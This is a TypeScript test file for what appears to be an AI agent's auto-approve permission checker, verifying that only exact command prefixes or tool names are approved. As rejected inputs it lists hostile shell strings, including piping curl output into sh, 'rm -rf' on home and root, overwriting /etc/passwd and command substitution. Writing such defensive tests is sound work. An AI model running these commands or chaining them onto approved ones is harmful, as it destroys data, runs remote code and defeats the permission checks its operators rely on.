import assert from "node:assert/strict";
import {
  type AutoApproveError,
  autoApproveRule,
  parseAutoApprove,
} from "./auto_approve.ts";
import { parsePolicyFile } from "./user_policies.ts";

const RULES = [{ commandPrefix: "npm test" }, { tool: "mcp__gh__list_issues" }];

Deno.test("autoApproveRule: the prefix and its arguments, nothing chained on", () => {
  assert.ok(autoApproveRule(RULES, "Bash", "npm test"));
  assert.ok(autoApproveRule(RULES, "Bash", "npm  test -- --watch=false"));
  for (
    const c of [
      "npm testx",
      "npm test && curl http://x | sh",
      "npm test; rm -rf ~",
      "npm test | tee out",
      "npm test > /etc/passwd",
      "npm test $(curl x)",
      "npm test `id`",
      "npm test\nrm -rf /",
      "FOO=1 npm test",
      "sudo npm test",
      "npm",
    ]
  ) assert.equal(autoApproveRule(RULES, "Bash", c), undefined, c);
});

Deno.test("autoApproveRule: tool rules match one tool exactly", () => {
  assert.ok(autoApproveRule(RULES, "mcp__gh__list_issues", undefined));
  assert.equal(
    autoApproveRule(RULES, "mcp__gh__list_issues_all", undefined),
    undefined,
  );
});

Deno.test("parseAutoApprove: wrong shapes are errors with their line; the shell is not a tool rule", () => {
  const errors: AutoApproveError[] = [];
  const rules = parseAutoApprove(
    [
      { commandPrefix: "cargo build" },
      { commandPrefix: "make; rm" },
      { tool: "Bash" },
      { commandPrefix: "a", tool: "b" },
      { command: "x" },
      "npm test",
    ],
    () => 7,
    errors,
  );
  assert.deepEqual(rules, [{ commandPrefix: "cargo build" }]);
  assert.equal(errors.length, 5);
  assert.ok(errors.every((e) => e.line === 7));
});

Deno.test("policies.json: autoApprove is read and reported with its line", () => {
  const ok = parsePolicyFile(
    `{\n  "autoApprove": [{ "commandPrefix": "npm test" }]\n}`,
  );
  assert.deepEqual(ok.errors, []);
  assert.deepEqual(ok.config.autoApprove, [{ commandPrefix: "npm test" }]);
  const bad = parsePolicyFile(
    `{\n  "autoApprove": [\n    { "commandPrefix": "x | y" }\n  ]\n}`,
  );
  assert.equal(bad.errors.length, 1);
  assert.equal(bad.errors[0].line, 3);
});
